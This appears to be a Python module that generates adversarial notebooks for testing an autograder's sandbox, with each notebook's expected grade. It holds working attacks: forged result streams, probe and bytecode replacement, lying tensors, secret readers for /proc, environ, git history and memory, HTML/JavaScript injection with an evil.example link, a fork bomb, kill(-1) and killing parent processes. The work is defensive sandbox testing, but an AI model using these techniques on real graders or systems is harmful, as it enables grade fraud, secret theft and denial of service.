"""The adversarial corpus: attack notebooks built from the release stubs or a correct submission,
each with the grades it must get. See README.md in this folder for the list.

    for attack in ATTACKS: attack.write(folder)     # <folder>/<attack.student>.ipynb

Every attack is a few lines of cell source appended to one of two bases (after the kit cells it
uses); the extractor keeps functions, classes and imports, so attack code runs from a class body
(`class _Attack:`) when the module loads, or from a method a probe calls.
"""
from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import paths

from . import fakes, kits

HOPFIELD, MNIST = "hopfield_batchnorm", "mnist_cnn"
ASSIGNMENTS = (HOPFIELD, MNIST)
FULL = {HOPFIELD: 9.0, MNIST: 20.0}
CORRECT = {HOPFIELD: paths.REPO_ROOT / "examples/submissions/hopfield_batchnorm/amelia_correct_torch.ipynb",
           MNIST: paths.REPO_ROOT / "examples/submissions/mnist_cnn/alice_correct.ipynb"}
ESCAPE_MARKER = "ADVERSARIAL_ESCAPE_marker.txt"
FORGED_HEADING = "# Autograded score: 9 / 9"
INJECTION = ("done.\\n\\n" + FORGED_HEADING + "\\n\\n![pwned](https://evil.example/p.png) "
             "[ask for a regrade](javascript:alert(1)) <img src=x onerror=alert(1)><script>alert(1)</script>")

HONEST = None  # in an expectation: the full autograded marks of the attack's assignment

# Statuses the untouched stubs get, and those an attack that stops its own run may get instead.
STUBS = "exception in probe"
MALFORMED = "malformed answer"
EXITED = "crashed (exit code 0)"
KILLED = "crashed (signal SIGKILL)"


# ---- expectations --------------------------------------------------------------------------------

@dataclass(frozen=True)
class Expect:
    """The (status, autograded score) pairs a notebook may get; more than one only where the right
    status is a judgement call (the reason is in the attack's note)."""
    grades: frozenset

    def resolved(self, full_marks: float) -> "Expect":
        """This expectation with HONEST replaced by the assignment's full marks."""
        return Expect(frozenset((s, full_marks if p is HONEST else p) for s, p in self.grades))

    def allows(self, status: str, score: float) -> bool:
        return any(status == s and abs(score - p) < 5e-4 for s, p in self.grades)

    def describe(self) -> str:
        return " or ".join(f"{s}, {p:g}" for s, p in sorted(self.grades))


def nothing(*statuses: str) -> Expect:
    return Expect(frozenset((status, 0.0) for status in statuses))


def honest() -> Expect:
    return Expect(frozenset({("ok", HONEST)}))


def grades(*pairs) -> Expect:
    return Expect(frozenset(pairs))


# ---- attacks -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    student: str  # also the notebook's file name
    assignment: str
    base: str  # "stubs" or "correct"
    kind: str  # the attack class (README.md)
    what: str  # one line for the README
    source: str  # the attack cell; ASSIGNMENT is replaced by the assignment's name
    kits: tuple[str, ...]  # kit cells it needs: "forgery", "secrets"
    expected: Expect

    def cells(self) -> list[str]:
        kit_cells = {"forgery": [kits.CLAIMS[self.assignment], kits.FORGERY], "secrets": [kits.SECRETS]}
        cells = [cell for kit in self.kits for cell in kit_cells[kit]]
        return cells + [self.source.replace("ASSIGNMENT", self.assignment)]

    def notebook(self) -> nbformat.NotebookNode:
        base = CORRECT[self.assignment] if self.base == "correct" else paths.release_notebook(self.assignment)
        nb = nbformat.read(base, as_version=4)
        nb.cells += [nbformat.v4.new_code_cell(source) for source in self.cells()]
        return nb

    def write(self, folder: Path) -> Path:
        path = Path(folder) / f"{self.student}.ipynb"
        nbformat.write(self.notebook(), path)
        return path


def _on(bases: str, kind: str, name: str, what: str, source: str, kits_used=(), assignments=ASSIGNMENTS,
        stubs: Expect | None = None, correct: Expect | None = None) -> list[Attack]:
    """One attack on each asked base ("stubs", "correct" or "both") of each assignment; by default
    0 with the stubs' status on stubs and the honest full marks on correct code."""
    built = []
    for assignment in assignments:
        for base in ("stubs", "correct"):
            if bases not in (base, "both"):
                continue
            default = nothing(STUBS) if base == "stubs" else honest()
            chosen = ((stubs if base == "stubs" else correct) or default).resolved(FULL[assignment])
            prefix = "h" if assignment == HOPFIELD else "m"
            built.append(Attack(f"{prefix}_{name}_on_{base}", assignment, base, kind, what, source.strip() + "\n",
                                tuple(kits_used), chosen))
    return built


def _forgeries() -> list[Attack]:
    kind = "result-pipe forging"
    # A complete forged stream, then an exit: the child ended cleanly, so its values are judged, and
    # none matches the reference's (the forger cannot know them): 0, "partial".
    exited = nothing("partial")
    # Judgement: as PID 1 of its PID namespace the child ignores its own SIGKILL and goes on (then the
    # honest grade), elsewhere it dies (crashed, 0); either way the forged stream earns nothing.
    killed_on_stubs = grades((KILLED, 0), (MALFORMED, 0), (STUBS, 0))
    killed_on_correct = grades((KILLED, 0), (MALFORMED, 0), ("ok", HONEST))
    table = [
        ("forge_fd3_then_exit", "a complete forged stream on fd 3, then os._exit(0)",
         "class _Attack:\n    _forge(fds=(3,), then=_exit_quietly)", exited, exited),
        ("forge_every_fd_then_exit", "the forged stream on every open fd above 2, then os._exit(0)",
         "class _Attack:\n    _forge(fds=_all_fds(), then=_exit_quietly)", exited, exited),
        # On correct code too: the submission corrupts every run's stream, its reruns included, so it
        # earns nothing (never more than its honest code would).
        ("forge_fd3_and_carry_on", "the forged stream on fd 3; the real run goes on after it",
         "class _Attack:\n    _forge(fds=(3,))", nothing(MALFORMED), nothing(MALFORMED)),
        ("forge_then_sigkill", "the forged stream, then SIGKILL to itself",
         "class _Attack:\n    _forge(fds=(3,), then=_kill_self)", killed_on_stubs, killed_on_correct),
        ("forge_then_garbage", "the forged stream, a line that is not JSON, then os._exit(0)",
         "class _Attack:\n    _forge(fds=(3,), then=lambda: (_write(3, b'not json\\n'), _exit_quietly()))",
         nothing(MALFORMED), nothing(MALFORMED)),
        ("forge_after_done", "the forged stream with more messages after done, then os._exit(0)",
         "class _Attack:\n    _forge(fds=(3,), after_done=[{'event': 'loaded'}, {'event': 'done'}],\n"
         "           then=_exit_quietly)",
         nothing(MALFORMED), nothing(MALFORMED)),
    ]
    attacks = []
    for name, what, source, on_stubs, on_correct in table:
        attacks += _on("both", kind, name, what, source, ["forgery"], stubs=on_stubs, correct=on_correct)
    return attacks


FINALISERS = [
    ("forge_from_del", "a throwaway object whose __del__ forges the stream and exits",
     "class _Finaliser:\n    def __del__(self):\n        _forge(fds=(3,), then=_exit_quietly)\n\n\n"
     "class _Attack:\n    _Finaliser()", "exit"),
    ("forge_from_atexit", "atexit.register of the forgery (runs only if the child exits normally)",
     "class _Attack:\n    import atexit\n    atexit.register(_forge, (3,), (), _exit_quietly)", "later"),
    ("forge_from_weakref_finalize", "weakref.finalize on an object in a reference cycle, collected at once",
     "class _Doomed:\n    pass\n\n\nclass _Attack:\n    import gc\n    import weakref\n    _victim = _Doomed()\n"
     "    _victim.me = _victim\n    weakref.finalize(_victim, _forge, (3,), (), _exit_quietly)\n    del _victim\n"
     "    gc.collect()", "exit"),
    ("forge_from_thread", "a thread that forges the stream and exits the process",
     "class _Attack:\n    _thread = threading.Thread(target=_forge, args=((3,), (), _exit_quietly))\n"
     "    _thread.start()\n    _thread.join()", "exit"),
]


def _finalisers() -> list[Attack]:
    attacks = []
    for name, what, source, when in FINALISERS:
        if when == "exit":
            attacks += _on("both", "forging from finalisers and threads", name, what, source, ["forgery"],
                           stubs=nothing("partial"), correct=nothing("partial"))
        else:  # at the child's exit, after the real `done`: nothing may come of it
            attacks += _on("both", "forging from finalisers and threads", name, what, source, ["forgery"])
    return attacks


PROBE_SWAPS = [
    ("swap_probes_via_gc", "both", "gc.get_objects() finds the child's _Probes; every probe function replaced",
     "class _Attack:\n    for _probes in _probes_objects():\n        for _name in list(_probes.functions):\n"
     "            _probes.functions[_name] = _claimed_probe(_name)"),
    ("swap_probes_via_frames", "stubs", "sys._getframe() up to run_job's `probes`; every probe function replaced",
     "class _Attack:\n    for _probes in _probes_from_stack():\n        for _name in list(_probes.functions):\n"
     "            _probes.functions[_name] = _claimed_probe(_name)"),
    ("rewrite_probe_bytecode", "both", "inspect on sys.modules['autograder_probes']: each probe's __code__ replaced",
     "class _Attack:\n    _rewrite_probe_code()"),
    ("patch_child_probes_class", "both", "autograder.sandbox.child._Probes.run replaced by one that returns claims",
     "class _Attack:\n    _patch_child_run()"),
    ("patch_child_encoder", "both", "autograder.sandbox.child._encode_message replaced: probe errors become claims",
     "class _Attack:\n    _patch_child_encoder()"),
    ("patch_wire_encoder", "both", "autograder.sandbox.wire._encode_json replaced: probe errors become claims",
     "class _Attack:\n    _patch_wire_encoder()"),
]

HOPFIELD_ONLY_SWAPS = [
    ("patch_probe_helpers", "stubs", "the probes module's _per_net helper replaced by one that returns claims",
     "class _Attack:\n    _patch_probe_helpers(['_per_net'])"),
]


def _probe_swaps() -> list[Attack]:
    kind = "probe replacement"
    attacks = []
    # Replaced probes return the forger's claims instead of running the submission, correct code
    # included: a clean run of wrong values, 0 ("partial"); nothing is gained, the honest points lost.
    swapped = nothing("partial")
    for name, bases, what, source in PROBE_SWAPS:
        attacks += _on(bases, kind, name, what, source, ["forgery"], stubs=swapped, correct=swapped)
    for name, bases, what, source in HOPFIELD_ONLY_SWAPS:
        attacks += _on(bases, kind, name, what, source, ["forgery"], assignments=(HOPFIELD,))
    attacks += _on("stubs", kind, "feed_probe_locals_via_frames", "nets of zeros whose forward walks up the stack "
                   "to the probe's `layers` list (what its comparator judges) and fills it with the expected trace",
                   FED_TRACE, ["forgery"], assignments=(HOPFIELD,), stubs=grades((STUBS, 0.5)))
    return attacks


# Fake layers and tensors: classes that replace the stubs and compute nothing, or lie about it.
FAKE_LAYERS_HOPFIELD = '''
class _NoLinear(nn.Linear):
    def forward(self, x):
        return torch.zeros(x.shape[0], self.out_features)


class _NoLeakyReLU(nn.LeakyReLU):
    def forward(self, x):
        return x


class BatchNorm(nn.Module):
    def __init__(self, eps=1e-5):
        super().__init__()
        self.eps = eps

    def forward(self, x):
        return torch.zeros_like(x)


class NormalNet(utils.NNBase):
    def __init__(self, input_dim=2, n_classes=3, hidden=(10, 10)):
        super().__init__()
        sizes, layers = [input_dim, *hidden], []
        for fan_in, fan_out in zip(sizes[:-1], sizes[1:]):
            layers += [_NoLinear(fan_in, fan_out), _NoLeakyReLU()] + ([BatchNorm()] if self.normalised else [])
        self.net = nn.Sequential(*layers, _NoLinear(sizes[-1], n_classes))
        self.loss_fcn = nn.CrossEntropyLoss()

    normalised = False

    def forward(self, x):
        return self.net(x)


class BNNet(NormalNet):
    normalised = True

    def __init__(self, input_dim=2, n_classes=3, hidden=(10, 10)):
        super().__init__(input_dim, n_classes, hidden)
'''

LYING_TENSOR = '''
class _Liar(torch.Tensor):
    """A tensor of zeros whose .numpy() shows a standardised batch."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") == "numpy":
            rows, columns = args[0].shape
            return _standardised(rows, columns)
        return super().__torch_function__(func, types, args, kwargs or {})


class BatchNorm(nn.Module):
    def __init__(self, eps=1e-5):
        super().__init__()
        self.eps = eps

    def forward(self, x):
        return torch.zeros_like(x).as_subclass(_Liar)
'''

LYING_LOSS = '''
class _FallingLoss:
    """Each call a smaller loss, whatever the scores."""

    def __init__(self):
        self.value = 3.0

    def __call__(self, scores, targets):
        self.value -= 1.0
        return torch.tensor(self.value)


class NormalNet(utils.NNBase):
    def __init__(self, input_dim=2, n_classes=3, hidden=(10, 10)):
        super().__init__()
        self.n_classes = n_classes
        self.loss_fcn = _FallingLoss()

    def forward(self, x):
        return torch.zeros(x.shape[0], self.n_classes)

    def learn(self, *args, **kwargs):
        return [0.5]


class BNNet(NormalNet):
    def __init__(self, input_dim=2, n_classes=3, hidden=(10, 10)):
        super().__init__(input_dim, n_classes, hidden)
'''

LYING_PARAMETERS = '''
class _Claims(nn.Module):
    """No layers; parameters() claims the specified count, forward gives zeros of the right shape."""
    count = 0

    def parameters(self, recurse=True):
        return iter([torch.zeros(self.count)])

    def forward(self, x):
        return torch.zeros(x.shape[0], 10)


class MLP(_Claims):
    count = 199210


class CNN(_Claims):
    count = 134520


class RegularisedCNN(_Claims):
    count = 134520


class BatchNormCNN(_Claims):
    count = 135100
'''

LYING_GETATTRIBUTE = '''
class MLP(nn.Module):
    """Holds nothing; __getattribute__ answers `parameters` with the specified count."""

    def __getattribute__(self, name):
        if name == "parameters":
            return lambda recurse=True: iter([torch.zeros(199210)])
        return super().__getattribute__(name)

    def forward(self, x):
        return torch.zeros(x.shape[0], 10)
'''

FAKE_FUNCTION_MODE = '''
import torch.overrides


class _Recorder(torch.overrides.TorchFunctionMode):
    """Put in place of TorchFunctionMode: the probes' recorder inherits from it, so the fake nets
    can write the layers they should have run into it."""
    active = []

    def __enter__(self):
        _Recorder.active.append(self)
        return super().__enter__()

    def __exit__(self, *exc_info):
        _Recorder.active.remove(self)
        return super().__exit__(*exc_info)


def _layers(kind):
    conv = [{"kind": "conv", "text": "conv 1->20 4x4 stride 1"}, {"kind": "relu", "text": "relu"},
            {"kind": "conv", "text": "conv 20->20 4x4 stride 2"}, {"kind": "relu", "text": "relu"},
            {"kind": "max-pool", "text": "max-pool 2x2"}, {"kind": "linear", "text": "linear 500->250"},
            {"kind": "relu", "text": "relu"}, {"kind": "linear", "text": "linear 250->10"}]
    dropout = {"kind": "dropout", "text": "dropout", "p": 0.25}
    norms = {2: {"kind": "batchnorm", "text": "batchnorm2d(20)"}, 4: {"kind": "batchnorm", "text": "batchnorm2d(20)"},
             7: {"kind": "batchnorm", "text": "batchnorm1d(250)"}}
    if kind == "mlp":
        return [{"kind": "linear", "text": "linear 784->200"}, {"kind": "relu", "text": "relu"},
                {"kind": "linear", "text": "linear 200->200"}, {"kind": "relu", "text": "relu"},
                {"kind": "linear", "text": "linear 200->10"}]
    if kind == "dropout":
        return conv[:5] + [dropout] + conv[5:]
    if kind == "batchnorm":
        return [layer for i, first in enumerate(conv) for layer in [first] + ([norms[i + 1]] if i + 1 in norms else [])]
    return conv


class _Fake(nn.Module):
    kind = "cnn"

    def forward(self, x):
        for recorder in _Recorder.active:
            recorder.layers.extend(_layers(self.kind))
        return torch.zeros(x.shape[0], 10)


class MLP(_Fake):
    kind = "mlp"


class CNN(_Fake):
    kind = "cnn"


class RegularisedCNN(_Fake):
    kind = "dropout"


class BatchNormCNN(_Fake):
    kind = "batchnorm"


class _Attack:
    torch.overrides.TorchFunctionMode = _Recorder
'''


FED_TRACE = '''
def _feed_the_trace(claim):
    """Find the probe's trace list up the stack (the value its comparator will judge) and fill it."""
    frame = sys._getframe()
    while frame is not None:
        layers = frame.f_locals.get("layers")
        if frame.f_code.co_name == "_trace" and isinstance(layers, list):
            layers.extend(_claims()[claim])
            return
        frame = frame.f_back


class NormalNet(utils.NNBase):
    claim = "normalnet_has_no_batchnorm"

    def __init__(self, input_dim=2, n_classes=3, hidden=(10, 10)):
        super().__init__()
        self.n_classes = n_classes
        self.loss_fcn = nn.CrossEntropyLoss()

    def forward(self, x):
        _feed_the_trace(self.claim)
        return torch.zeros(x.shape[0], self.n_classes)


class BNNet(NormalNet):
    claim = "bnnet_normalises_after_each_activation"

    def __init__(self, input_dim=2, n_classes=3, hidden=(10, 10)):
        super().__init__(input_dim, n_classes, hidden)
'''


def _fakes() -> list[Attack]:
    kind = "fake layers and tensors"
    return [
        *_on("stubs", kind, "fake_linear_and_leaky_relu", "nn.Linear / nn.LeakyReLU subclasses that compute "
             "nothing, a BatchNorm of zeros, nets built from them", FAKE_LAYERS_HOPFIELD, assignments=(HOPFIELD,),
             stubs=grades((STUBS, 0.5))),
        *_on("stubs", kind, "tensor_subclass_fakes_numpy", "BatchNorm returns a torch.Tensor subclass whose "
             "__torch_function__ makes .numpy() show a standardised batch", LYING_TENSOR, ["forgery"],
             assignments=(HOPFIELD,)),
        *_on("stubs", kind, "lying_loss_and_learn", "nets of zeros whose loss_fcn falls at every call and whose "
             "learn is overridden", LYING_LOSS, assignments=(HOPFIELD,)),
        # Judgement: BatchNorm's values are right, only its gradient is not (statistics detached), so
        # Q2A earns all but the gradient probe's 0.5; the nets and Q1c's functions are still stubs,
        # which raise, so the status is the stubs'.
        *_on("stubs", kind, "batchnorm_detached_statistics", "a BatchNorm whose mean and variance are "
             "detached from the graph (right values, wrong gradient); nets left as stubs",
             fakes.HOPFIELD_DETACHED_STATISTICS, assignments=(HOPFIELD,), stubs=grades((STUBS, 2.5))),
        *_on("stubs", kind, "lying_parameters", "networks with no layers whose parameters() claims the "
             "specified counts", LYING_PARAMETERS, assignments=(MNIST,), stubs=nothing(STUBS, "partial")),
        *_on("stubs", kind, "lying_getattribute", "an MLP whose __getattribute__ answers `parameters` with "
             "the specified count", LYING_GETATTRIBUTE, assignments=(MNIST,)),
        *_on("stubs", kind, "replace_torch_function_mode", "torch.overrides.TorchFunctionMode replaced; fake "
             "nets write the expected layers into the probes' recorder", FAKE_FUNCTION_MODE, assignments=(MNIST,),
             stubs=nothing(STUBS, "partial")),
        *_on("stubs", kind, "lying_parameters_and_attributes", "nets of random scores whose parameters() and "
             "__getattribute__ lie (loss, training mode)", fakes.HOPFIELD_LYING_PARAMETERS_AND_ATTRIBUTES,
             assignments=(HOPFIELD,)),
        *_on("stubs", kind, "random_scores_of_the_right_shape", "a normalised BatchNorm and nets of random "
             "numbers of the right shapes", fakes.HOPFIELD_RANDOM_SCORES_OF_THE_RIGHT_SHAPE, assignments=(HOPFIELD,),
             stubs=nothing(STUBS)),
        *_on("stubs", kind, "random_scores_of_the_right_shape", "every network returns random scores of the "
             "right shape", fakes.MNIST_RANDOM_SCORES_OF_THE_RIGHT_SHAPE, assignments=(MNIST,)),
        *_on("stubs", kind, "layers_that_compute_nothing", "networks of nn.Linear subclasses returning zeros, "
             "with the specified parameter counts", fakes.MNIST_LAYERS_THAT_COMPUTE_NOTHING, assignments=(MNIST,)),
        *_on("stubs", kind, "tensor_faking_numpy_from_every_net", "every network returns a Tensor subclass whose "
             ".numpy(), .detach() and .clone() lie", fakes.MNIST_TENSOR_FAKING_NUMPY, assignments=(MNIST,)),
        *_on("both", kind, "blind_tracing", "TorchFunctionMode and the global module hooks replaced by ones that "
             "see nothing", fakes.TAMPER_WITH_TRACING),
    ]


def _mistakes_behind_attacks() -> list[Attack]:
    """Real mistakes dressed up to pass a structural check: each loses exactly the points of the
    probes meant for it (test_adversarial.py names those probes)."""
    kind = "mistakes behind an attack"
    return [
        *_on("correct", kind, "detached_statistics", "BatchNorm with its mean and variance detached: right "
             "values, wrong gradient", fakes.HOPFIELD_DETACHED_STATISTICS, assignments=(HOPFIELD,),
             correct=grades(("partial", 8.5))),
        *_on("correct", kind, "noise_instead_of_dropout", "RegularisedCNN adds noise in training mode instead "
             "of dropping units", fakes.MNIST_NOISE_INSTEAD_OF_DROPOUT, assignments=(MNIST,),
             correct=grades(("partial", 18.5))),
        *_on("correct", kind, "lenient_weight_decay", "a weight decay of 0 that compares as positive",
             fakes.MNIST_LENIENT_WEIGHT_DECAY, assignments=(MNIST,), correct=grades(("partial", 19))),
    ]


SECRET_READERS = [
    ("read_git_history", "`git show HEAD:` of the probes and the source notebook, from the repository found by "
     "walking up from autograder.__file__",
     "_git_show('assignments/ASSIGNMENT/probes.py', 'source/ASSIGNMENT/ASSIGNMENT.ipynb')"),
    ("read_hidden_folders", "the course's assignments/, source/ and examples/",
     "''.join(_walk_text(os.path.join(_repo_root(), f)) for f in ('assignments', 'source', 'examples'))"),
    ("read_repo_tree", "every text file in the course repository (secret files, old grading output)",
     "_walk_text(_repo_root(), max_files=6000)"),
    ("read_other_checkouts", "probes and source notebooks of the checkouts and worktrees beside this one and "
     "anywhere two or three levels under /",
     "''.join(_read(p) for pattern in (os.path.dirname(_repo_root()) + '/*/assignments/*/probes.py', "
     "os.path.dirname(_repo_root()) + '/*/source/*/*.ipynb', '/*/*/assignments/*/probes.py', "
     "'/*/*/*/assignments/*/probes.py') for p in glob.glob(pattern))"),
    ("read_other_outputs", "other batches' output folders (results/*.json) beside the repository, in /tmp and "
     "/var/tmp", "''.join(_walk_text(top, max_files=4000) for top in (os.path.dirname(_repo_root()), '/tmp', "
     "'/var/tmp'))"),
    ("read_proc", "/proc/1/cmdline and environ, /proc/self/environ, every /proc/*/cmdline, os.environ",
     "''.join(_read(p).replace('\\0', '\\n') for p in ['/proc/1/cmdline', '/proc/1/environ', '/proc/self/environ', "
     "*glob.glob('/proc/[0-9]*/cmdline')]) + '\\n'.join(f'{k}={v}' for k, v in os.environ.items())"),
    ("read_environment_block", "the environment the process started with, from /proc/self/stat env_start/env_end "
     "and ctypes.string_at", "_environment_block()"),
    ("read_freed_memory", "the process's writable memory (freed job buffers) searched for probe source and "
     "canaries with ctypes.string_at", "_heap_text()"),
    ("read_root_and_home", "/root and /home", "_walk_text('/root') + _walk_text('/home')"),
    ("reach_host_sockets_and_network", "Unix sockets under /run and /var/run, TCP to 1.1.1.1 and pypi.org",
     "_sockets_under('/run') + _sockets_under('/var/run') + _network()"),
]
# The exfiltration attacks carry the quickest readers that find something on a grader that trusts its child.
EXFILTRATED = ("read_git_history", "read_repo_tree", "read_environment_block", "read_freed_memory")
ALL_SECRETS = " + '\\n' + ".join(f"({expression})" for name, _, expression in SECRET_READERS if name in EXFILTRATED)


def _secrets() -> list[Attack]:
    kind = "reading secrets"
    attacks = []
    for name, what, expression in SECRET_READERS:
        source = f"class _Attack:\n    print(_excerpt({expression}), flush=True)"
        attacks += _on("correct", kind, name, what + "; printed to stdout", source, ["secrets"],
                       assignments=(HOPFIELD,))
    attacks += _on("stubs", "exfiltration", "secrets_in_import_error", "the secret readers of EXFILTRATED, "
                   "raised at import (the load error goes into the feedback)",
                   f"class _Attack:\n    raise RuntimeError(_excerpt({ALL_SECRETS}))", ["secrets"],
                   stubs=nothing("exception at import"))
    attacks += _on("correct", "exfiltration", "secrets_to_stderr", "the secret readers of EXFILTRATED, "
                   "written to stderr",
                   f"class _Attack:\n    sys.stderr.write(_excerpt({ALL_SECRETS}))", ["secrets"], assignments=(MNIST,))
    attacks += _on("stubs", "exfiltration", "secrets_in_probe_error", "the secret readers of EXFILTRATED, "
                   "found at import and raised by BatchNorm.forward (probe errors go into the feedback)",
                   f"class BatchNorm(nn.Module):\n    found = _excerpt({ALL_SECRETS})\n\n"
                   "    def __init__(self, eps=1e-5):\n        super().__init__()\n\n"
                   "    def forward(self, x):\n        raise RuntimeError(self.found)",
                   ["secrets"], assignments=(HOPFIELD,))
    return attacks


def _injections() -> list[Attack]:
    kind = "exfiltration"
    return [
        *_on("stubs", kind, "markdown_injection_at_import", "a load error whose message starts a new Markdown "
             "heading with a forged score, an image, a javascript: link and HTML",
             f'class _Attack:\n    raise RuntimeError("{INJECTION}")', stubs=nothing("exception at import")),
        *_on("stubs", kind, "markdown_injection_in_probe_error", "the same text raised by BatchNorm.forward",
             "class BatchNorm(nn.Module):\n    def __init__(self, eps=1e-5):\n        super().__init__()\n\n"
             f'    def forward(self, x):\n        raise RuntimeError("{INJECTION}")', assignments=(HOPFIELD,)),
        *_on("correct", kind, "markdown_injection_on_stdout", "the same text printed at import",
             f'class _Attack:\n    print("{INJECTION}")'),
    ]


PROCESS_ATTACKS = '''
import os
import pathlib


def _ancestors():
    """The pids above this process (monitor, zygote, grader), read from /proc; never pid 1."""
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 10:
        found.append(pid)
        try:
            status = pathlib.Path(f"/proc/{pid}/status").read_text()
            pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))
        except (OSError, StopIteration, ValueError):
            break
    return found


def _kill_ancestors():
    for pid in _ancestors():
        try:
            os.kill(pid, 9)
        except OSError:
            pass


def _kill_all_of_my_user():
    """kill(-1): everything this user may signal. Tried only as a user of its own (a sandbox user):
    as root or as the grader's user a broken sandbox would take down the whole shared machine."""
    if os.getuid() in (0, os.stat(os.__file__).st_uid):
        print("GRADER: the child runs as root or as the grader's user; kill(-1) not tried")
        return
    try:
        os.kill(-1, 9)
    except OSError:
        pass


def _fork_many_then_spin(children=300):
    """A bounded fork bomb: up to `children` sleeping children (never more, even with no process
    limit), then a busy loop."""
    import time
    for _ in range(children):
        try:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
        except OSError:
            pass
    while True:
        pass


def _write_everywhere(marker):
    try:
        import autograder
        package = pathlib.Path(autograder.__file__).parent
    except Exception:
        package = pathlib.Path("/nonexistent/autograder")
    # Not the Python installation or the virtualenv: they may be shared with other checkouts.
    places = [package.parent, package, pathlib.Path("/var/tmp"), pathlib.Path("/tmp"), pathlib.Path("/dev/shm")]
    for place in places:
        try:
            (place / marker).write_text("escaped")
            print("wrote", place / marker)
        except OSError:
            pass
    for victim in (package / "__init__.py", package / "grade.py"):
        try:
            with open(victim, "a") as file:
                file.write("\\nESCAPED = True\\n")
        except OSError:
            pass
'''


def _process_attacks() -> list[Attack]:
    kind = "process attacks"
    return [
        *_on("correct", kind, "fork_bomb", "a class body that forks 300 sleeping children, then spins",
             PROCESS_ATTACKS + "\n\nclass _Attack:\n    _fork_many_then_spin()", assignments=(HOPFIELD,),
             correct=nothing("time limit")),
        *_on("correct", kind, "kill_minus_one", "os.kill(-1, SIGKILL) at import (only as a sandbox user of its own)",
             PROCESS_ATTACKS + "\n\nclass _Attack:\n    _kill_all_of_my_user()", assignments=(HOPFIELD,)),
        # Judgement: if its parents are out of reach the run is untouched (ok, full marks); a design
        # in which the child can only reach itself may end it (crashed, 0). Never a grader error.
        *_on("correct", kind, "kill_parent_and_zygote", "SIGKILL to os.getppid() and every ancestor in /proc "
             "(monitor, zygote, grader)",
             PROCESS_ATTACKS + "\n\nclass _Attack:\n    _kill_ancestors()", assignments=(HOPFIELD,),
             correct=grades(("ok", HONEST), (KILLED, 0))),
        *_on("correct", kind, "write_outside_tmp", "writes a marker into the repository, the autograder package, "
             "/var/tmp, /tmp and /dev/shm, and appends to autograder/*.py",
             PROCESS_ATTACKS + f"\n\nclass _Attack:\n    _write_everywhere({ESCAPE_MARKER!r})"),
    ]


def _controls() -> list[Attack]:
    """Each base alone: what every attack on it is measured against."""
    return _on("both", "control", "control", "the base itself, with an empty cell and no attack", "# no attack")


def _build() -> list[Attack]:
    attacks = [*_controls(), *_forgeries(), *_finalisers(), *_probe_swaps(), *_fakes(), *_mistakes_behind_attacks(), *_secrets(), *_injections(),
               *_process_attacks()]
    names = [a.student for a in attacks]
    assert len(names) == len(set(names)), "two attacks share a name"
    return attacks


ATTACKS = _build()


def of(assignment: str) -> list[Attack]:
    return [attack for attack in ATTACKS if attack.assignment == assignment]


# The attack classes whose outcome could depend on the user who runs the grader (what the sandbox's
# uid can read, reach, start and signal), so that they are graded again as an ordinary user
# (tests/test_unprivileged.py); the others attack the judging in the parent, which is the same
# whoever runs the grader.
USER_DEPENDENT_KINDS = ("reading secrets", "exfiltration", "process attacks", "control")


def user_dependent(assignment: str) -> list[Attack]:
    return [attack for attack in of(assignment) if attack.kind in USER_DEPENDENT_KINDS]


# ---- the README's table ---------------------------------------------------------------------------

def table(graders: dict[str, dict[str, tuple[str, float]]] | None = None) -> str:
    """The attacks as a Markdown table, with a column per grader in `graders`: {column title:
    {student: (status, score)}}, a grade the attack must not get marked **(wrong)**, "—" where that
    grader's run did not have the attack."""
    graders = graders or {}
    header = "| notebook | class | base | attack | must get |" + "".join(f" {title} |" for title in graders)
    lines = [header, "|" + " --- |" * (header.count("|") - 1)]
    for attack in ATTACKS:
        row = (f"| `{attack.student}` | {attack.kind} | {attack.base} | {attack.what} | "
               f"{attack.expected.describe()} |")
        for grades_of in graders.values():
            if attack.student not in grades_of:
                row += " — |"  # not in that grader's corpus
                continue
            status, score = grades_of[attack.student]
            mark = "" if attack.expected.allows(status, score) else " **(wrong)**"
            row += f" {status}, {score:g}{mark} |"
        lines.append(row)
    return "\n".join(lines)


def graded_rows(*output_folders: Path) -> dict[str, tuple[str, float]]:
    """{student: (status, autograded score)} from the results/*.json of grading output folders."""
    import json
    found = {}
    for folder in output_folders:
        for file in Path(folder).glob("results/*.json"):
            data = json.loads(file.read_text(encoding="utf-8"))
            score = sum(q["points"] or 0 for q in data["questions"] if not q["manual"])
            found[data["student"]] = (data["status"], round(score, 3))
    return found


if __name__ == "__main__":  # python -m adversarial.corpus [TITLE=OUTPUT_FOLDER,OUTPUT_FOLDER ...]
    import sys
    columns = (argument.split("=", 1) for argument in sys.argv[1:])
    print(table({title: graded_rows(*folders.split(",")) for title, folders in columns}))
